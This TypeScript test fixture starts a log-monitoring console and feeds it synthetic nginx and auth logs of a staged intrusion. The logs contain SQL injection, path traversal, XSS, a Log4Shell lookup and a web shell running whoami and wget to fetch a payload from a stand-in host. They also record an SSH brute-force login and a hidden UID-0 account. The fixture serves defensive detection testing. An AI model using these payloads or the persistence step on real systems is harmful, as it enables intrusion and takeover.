import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startCanh, type CanhProcess } from '../faults/canh-process.ts';

export interface ConsoleServer {
  readonly url: string;
  /** The administrator's one-time password, as printed. */
  readonly password: string;
  stop(): Promise<void>;
}

const MINUTE_MS = 60_000;
const attacker = '203.0.113.66';
const browserAgent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)';
/** The override would turn what follows round on the screen; it must be seen and not obeyed. */
export const hostileAgent = 'Nikto/2.5 \u202Egpj.exe';

/** The whole program, as a user starts it, on a folder of its own with an hour of two logs. */
export async function startConsoleServer(): Promise<ConsoleServer> {
  const folder = await mkdtemp(join(tmpdir(), 'canh-console-'));
  const logs = join(folder, 'logs');
  await mkdir(logs);
  const now = Date.now();
  await writeFile(join(logs, 'access.log'), accessLog(now));
  await writeFile(join(logs, 'auth.log'), authLog(now));
  const config = join(folder, 'canh.yaml');
  await writeFile(config, configText(logs));
  const canh = startCanh(['up', '--config', config, '--data', join(folder, 'data')]);
  const url = await canh.ready();
  return {
    url,
    password: await printedPassword(canh),
    async stop() {
      await canh.end('SIGTERM');
      await rm(folder, { recursive: true, force: true, maxRetries: 5 });
    },
  };
}

/** The password is printed just after the address. */
async function printedPassword(canh: CanhProcess): Promise<string> {
  for (;;) {
    const found = /with the password (\S+)/.exec(canh.output())?.[1];
    if (found !== undefined) return found;
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
}

function configText(logs: string): string {
  return `listen: 127.0.0.1:0
collector:
  agency: ubnd-cantho
  id: may-thu-thap
  inputs:
    - { type: file, id: web, paths: ["${join(logs, 'access.log')}"], product: nginx }
    - { type: file, id: mail, paths: ["${join(logs, 'auth.log')}"], product: linux, zone: UTC }
`;
}

/** Requests of an hour: an attacker's, and now and then an ordinary one. */
function accessLog(now: number): string {
  const requests: readonly (readonly [path: string, status: number, agent: string])[] = [
    ['/', 200, browserAgent],
    ['/admin/', 404, hostileAgent],
    ['/tin-tuc?id=1%27%20UNION%20SELECT%20password%20FROM%20users--', 200, 'sqlmap/1.8#stable'],
    ['/static/css/portal.css', 200, browserAgent],
    ['/tai-ve?tep=../../../../etc/passwd', 200, browserAgent],
    ['/tim?q=%3Cscript%3Ealert(1)%3C/script%3E', 200, browserAgent],
    ['/?x=${jndi:ldap://192.0.2.45/a}', 400, browserAgent],
    ['/.git/config', 200, browserAgent],
    ['/lien-he', 200, browserAgent],
    ['/tai-len/2026/11/don-xin.php?cmd=whoami', 200, browserAgent],
    ['/tai-len/2026/11/don-xin.php?cmd=wget%20http://192.0.2.45/linux', 200, browserAgent],
  ];
  return requests
    .map(([path, status, agent], index) => {
      const time = webTime(now - (requests.length - index) * 4 * MINUTE_MS);
      return `${attacker} - - [${time}] "GET ${path} HTTP/1.1" ${status} 512 "-" "${agent}"\n`;
    })
    .join('');
}

function authLog(now: number): string {
  const messages = [
    `sshd[811]: Failed password for root from ${attacker} port 51022 ssh2`,
    `sshd[812]: Failed password for root from ${attacker} port 51024 ssh2`,
    `sshd[813]: Accepted password for root from ${attacker} port 51030 ssh2`,
    'sudo:   vanthu : TTY=pts/0 ; PWD=/home/vanthu ; USER=root ; COMMAND=/bin/bash',
    'useradd[902]: new user: name=support, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0',
  ];
  return messages
    .map(
      (message, index) =>
        `${new Date(now - (messages.length - index) * 7 * MINUTE_MS).toISOString()} mail01 ${message}\n`,
    )
    .join('');
}

/** `23/Nov/2026:10:00:00 +0000`. */
function webTime(timeMs: number): string {
  const [, day, month, year, clock] =
    /^\w+, (\d+) (\w+) (\d+) (\S+)/.exec(new Date(timeMs).toUTCString()) ?? [];
  return `${day}/${month}/${year}:${clock} +0000`;
}
